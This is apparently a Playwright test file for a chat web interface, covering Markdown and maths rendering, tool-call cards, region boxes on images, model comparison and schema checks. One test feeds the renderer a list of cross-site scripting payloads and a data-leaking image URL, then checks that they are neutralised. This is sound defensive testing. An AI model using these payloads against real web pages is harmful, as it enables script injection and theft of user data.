// Answers in a browser: Markdown, thinking, tools, boxes, comparing, schemas, and answers that mean harm.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { eventually, EXAMPLES, Gate, open, says, setUp, type Step, until } from "./kit.ts";

const { front } = setUp();

const MARKDOWN = `# Title

Text with **bold**, \`code\`, a [link](https://example.com/) and $e^{i\\pi} = -1$.

| fruit | number |
|---|--:|
| apple | 3 |

\`\`\`python
def area(r):
    return 3.14 * r**2  # a comment
\`\`\`

$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$

1. one
2. two
`;

test("Markdown, code, tables and mathematics; code is copied", async () => {
  const tab = await open(front.url);
  await tab.context.grantPermissions(["clipboard-read", "clipboard-write"]);
  front.scripts.push(says(MARKDOWN, 5));
  const answer = await tab.ask("show");
  assert.equal(await answer.locator("h1").innerText(), "Title");
  assert.equal(await answer.locator("td").first().innerText(), "apple");
  assert.equal(await answer.locator("math").count(), 2);
  assert.equal(await answer.locator(".hljs-keyword").first().innerText(), "def");
  assert.equal(await answer.locator("a").getAttribute("rel"), "noopener noreferrer nofollow");
  await answer.locator("button[data-copy]").click();
  await until(async () => /^def area\(r\):\n {4}return/.test(await tab.page.evaluate(() => navigator.clipboard.readText())));
  await tab.shot("markdown");
  await tab.close();
});

test("an answer that means harm does nothing", async () => {
  const tab = await open(front.url);
  const asked: string[] = [];
  tab.page.on("request", (request) => asked.push(request.url()));
  await tab.page.evaluate(() => { (window as unknown as { harmed: number }).harmed = 0; });
  const harm = [
    '<img src=x onerror="harmed=1">', "<script>harmed=1</script>", "[a](javascript:harmed=1)", '<a href="javascript:harmed=1">b</a>',
    '<svg onload="harmed=1"></svg>', "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>", '<form action="/v1/files"><button>send</button></form>',
    "![x](https://example.com/steal?q=secret)", '<div style="position:fixed;inset:0">over</div>', "[c](data:text/html,<script>1</script>)",
    '<math><mtext><table><mglyph><style><img src=x onerror="harmed=1">', "$\\href{javascript:harmed=1}{x}$", "<base href='https://example.com/'>",
    '<details open ontoggle="harmed=1">x</details>', "<input autofocus onfocus='harmed=1'>",
  ].join("\n\n");
  front.scripts.push(says(`${harm}\n\nThe end.`));
  const answer = await tab.ask("harm me");
  await answer.getByText("The end.").waitFor();
  for (const link of await answer.locator(".markdown a").all()) assert.match((await link.getAttribute("href")) ?? "https:", /^https:/);
  assert.equal(await answer.locator(".markdown").locator("script, iframe, img, form, input, style, base, svg").count(), 0);
  assert.equal(await answer.locator(".markdown [style*=fixed], .markdown [onerror], .markdown [onload], .markdown [ontoggle]").count(), 0);
  await tab.page.waitForTimeout(200);
  assert.equal(await tab.page.evaluate(() => (window as unknown as { harmed: number }).harmed), 0);
  assert.deepEqual(asked.filter((url) => url.includes("example.com")), []);
  await tab.close();
});

test("thinking is folded once the answer begins", async () => {
  const tab = await open(front.url);
  const gate = new Gate();
  const thoughts: Step[] = [{ delta: { reasoning_content: "First I " } }, { delta: { reasoning_content: "look." } }, { gate }];
  front.scripts.push([...thoughts, ...says("A cat.")]);
  await tab.page.getByRole("button", { name: "Settings" }).first().click();
  await tab.page.getByLabel("Think before the answer").check();
  await tab.page.getByRole("dialog").getByRole("button", { name: "Close" }).click();
  await tab.send("think");
  await tab.page.locator(".thinking[open]").getByText("First I").waitFor();
  gate.open();
  await tab.said("A cat.");
  await eventually(() => tab.page.locator(".thinking[open]").count(), 0);
  assert.deepEqual(front.bodies.at(-1)!["chat_template_kwargs"], { enable_thinking: true });
  await tab.close();
});

test("calls of tools are cards; results go back and the model goes on", async () => {
  const tab = await open(front.url);
  await tab.page.getByRole("button", { name: "Settings" }).first().click();
  const dialog = tab.page.getByRole("dialog");
  await dialog.locator("summary", { hasText: "Tools" }).click();
  await dialog.getByRole("button", { name: "Insert the built-in tools" }).click();
  await dialog.getByRole("button", { name: "Close" }).click();
  const call = (index: number, name: string, json: string): Step[] => [
    { delta: { tool_calls: [{ index, id: `c${index}`, type: "function", function: { name, arguments: "" } }] } },
    { delta: { tool_calls: [{ index, function: { arguments: json.slice(0, 5) } }] } },
    { delta: { tool_calls: [{ index, function: { arguments: json.slice(5) } }] } },
  ];
  front.scripts.push([...call(0, "calculate", '{"expression": "6*7"}'), ...call(1, "weather", '{"city": "Rome"}'), { finish: "tool_calls" }]);
  await tab.ask("6*7, and the weather?");
  const cards = tab.page.locator(".call");
  assert.equal(await cards.count(), 2);
  assert.match(await cards.first().innerText(), /calculate[\s\S]*"expression": "6\*7"/);
  await cards.first().getByRole("button", { name: "Run" }).click();
  await tab.page.getByLabel("Result of weather").fill("sunny");
  await tab.shot("tools");
  front.scripts.push(says("42, and sunny."));
  await tab.page.getByRole("button", { name: "Send the results" }).click();
  await tab.said("42, and sunny.");
  const messages = front.bodies.at(-1)!["messages"] as Record<string, unknown>[];
  assert.deepEqual(messages.slice(2), [{ role: "tool", tool_call_id: "c0", content: "42" }, { role: "tool", tool_call_id: "c1", content: "sunny" }]);
  assert.equal((front.bodies.at(-1)!["tools"] as unknown[]).length, 2);
  front.scripts.push(says("43, and sunny."));
  await tab.page.locator("article.tool").first().getByRole("button", { name: "Edit" }).click();
  await tab.page.getByLabel("Edit the result").fill("43");
  await tab.page.getByRole("button", { name: "Send the results" }).click();
  await tab.said("43, and sunny.");
  assert.deepEqual((front.bodies.at(-1)!["messages"] as { content: string }[]).slice(2).map(({ content }) => content), ["43", "sunny"]);
  assert.equal(await tab.page.locator("article.tool .branches").first().innerText(), "2/2");
  await tab.close();
});

test("boxes and points are drawn on the picture; names light them up; JSON is saved", async () => {
  const tab = await open(front.url);
  const image = `data:image/png;base64,${(await readFile(join(EXAMPLES, "shapes.png"))).toString("base64")}`;
  const talk = [
    { role: "user", content: [{ type: "image_url", image_url: { url: image } }, { type: "text", text: "Where?" }] },
    { role: "assistant", content: "Here is <ref>a shape</ref><box>100 200 500 600</box>, a <ref>corner</ref><point>900 100</point> and <quad>600 600 800 620 790 900 590 880</quad>.<|im_end|>" },
  ];
  await tab.page.locator(".sidebar input[type=file]").setInputFiles({ name: "boxes.json", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(talk)) });
  await tab.page.locator(".regions img").waitFor();
  await eventually(() => tab.page.locator(".shape").count(), 3);
  assert.equal(await tab.page.locator(".shape").first().getAttribute("points"), "100,200 500,200 500,600 100,600");
  assert.equal(await tab.answer().locator(".markdown").innerText(), "Here is a shape, a corner and 3.");
  // A picture that is still being read moves what is under the pointer.
  await until(() => tab.page.locator(".regions img").evaluate((picture: HTMLImageElement) => picture.complete && picture.naturalWidth > 0));
  await tab.answer().locator(".markdown .mark", { hasText: "a shape" }).hover();
  await tab.page.locator(".shape.active").waitFor();
  // The picture may still be read, and the page lays it out anew.
  await until(async () => {
    const box = (await tab.page.locator(".regions img").boundingBox())!;
    const shape = (await tab.page.locator(".shape").first().boundingBox())!;
    return Math.abs(shape.x + shape.width / 2 - box.x - 0.3 * box.width) < 2 && Math.abs(shape.y + shape.height / 2 - box.y - 0.4 * box.height) < 2;
  });
  await tab.shot("boxes");
  const [file] = await Promise.all([tab.page.waitForEvent("download"), tab.page.getByRole("button", { name: "Save boxes as JSON" }).click()]);
  const saved = JSON.parse(await readFile((await file.path())!, "utf8")) as { name: string; pixels: number[][] }[];
  assert.equal(saved[0]!.name, "a shape");
  assert.equal(saved[0]!.pixels.length, 2);
  await tab.close();
});

test("16x and 4x answer side by side, and the conversation goes on from one of them", async () => {
  const tab = await open(front.url);
  await tab.attach("penguin.png");
  await tab.page.locator(".composer").getByRole("button", { name: "Compare" }).click();
  await tab.page.getByRole("button", { name: "Compare from now on" }).click();
  await tab.send("What is this?");
  await until(async () => (await tab.page.locator(".side[data-state=done]").count()) === 2);
  await eventually(() => tab.page.locator(".side header b").allInnerTexts(), ["16x", "4x"]);
  const modes = front.bodies.slice(-2).map((body) => (body["mm_processor_kwargs"] as { downsample_mode: string }).downsample_mode);
  assert.deepEqual(modes.sort(), ["16x", "4x"]);
  await tab.shot("compare");
  await tab.page.getByRole("button", { name: "Go on here" }).click();
  await tab.page.getByRole("button", { name: "End", exact: true }).click();
  await tab.ask("Which colour?");
  assert.equal((front.bodies.at(-1)!["messages"] as unknown[]).length, 3);
  const asked = front.bodies.length;
  const compared = tab.page.locator(".compared");
  await compared.getByRole("button", { name: "Answer again" }).click();
  await eventually(() => compared.locator(".branches").allInnerTexts(), ["2/2"]);
  await eventually(() => compared.locator(".side[data-state=done]").count(), 2);
  const again = front.bodies.slice(asked).map((body) => (body["mm_processor_kwargs"] as { downsample_mode: string }).downsample_mode);
  assert.deepEqual(again.sort(), ["16x", "4x"], "both sides are asked again, with their own settings");
  await compared.getByRole("button", { name: "Previous version" }).click();
  await eventually(() => compared.locator(".branches").allInnerTexts(), ["1/2"]);
  await compared.getByRole("button", { name: "Delete, with" }).click();
  await compared.getByRole("button", { name: "Click again" }).click();
  await eventually(() => compared.locator(".branches").count(), 0);
  assert.equal(await compared.locator(".side").count(), 2, "answers that were asked together go together");
  await tab.close();
});

test("a schema is checked before it is used, and answers against it", async () => {
  const tab = await open(front.url);
  await tab.page.getByRole("button", { name: "Settings" }).first().click();
  const dialog = tab.page.getByRole("dialog");
  await dialog.locator("summary", { hasText: "Answer as JSON" }).click();
  await dialog.getByLabel("JSON schema").fill("{");
  await dialog.getByText("Not used yet:").waitFor();
  const schema = { type: "object", properties: { n: { enum: [1, 2] } }, required: ["n"] };
  await dialog.getByLabel("JSON schema").fill(JSON.stringify(schema));
  await dialog.getByLabel("Name of a preset").fill("numbers");
  await dialog.getByRole("button", { name: "Save preset" }).click();
  await dialog.getByRole("button", { name: "Close" }).click();
  const answer = await tab.ask("a number");
  assert.equal(await answer.locator(".problem").count(), 0);
  front.scripts.push(says('{"n": "three"}'));
  await tab.ask("again");
  await tab.answer().getByText("does not satisfy the schema").waitFor();
  await tab.page.getByRole("button", { name: "New conversation" }).first().click();
  await tab.page.getByRole("button", { name: "Settings" }).first().click();
  await tab.page.getByRole("button", { name: "numbers", exact: true }).click();
  await eventually(() => dialog.getByLabel("JSON schema").inputValue(), JSON.stringify(schema));
  await tab.close();
});

test("failures are told in plain words, with the server's own after them", async () => {
  const tab = await open(front.url, { failures: true });
  await tab.send("word ".repeat(3000));
  await tab.page.getByText("The conversation is too long for the model.").waitFor();
  await tab.page.locator(".problem .detail").waitFor();
  front.scripts.push(says("short"));
  await tab.page.getByRole("button", { name: "Try again" }).click();
  await tab.said("short");
  await tab.close();
});
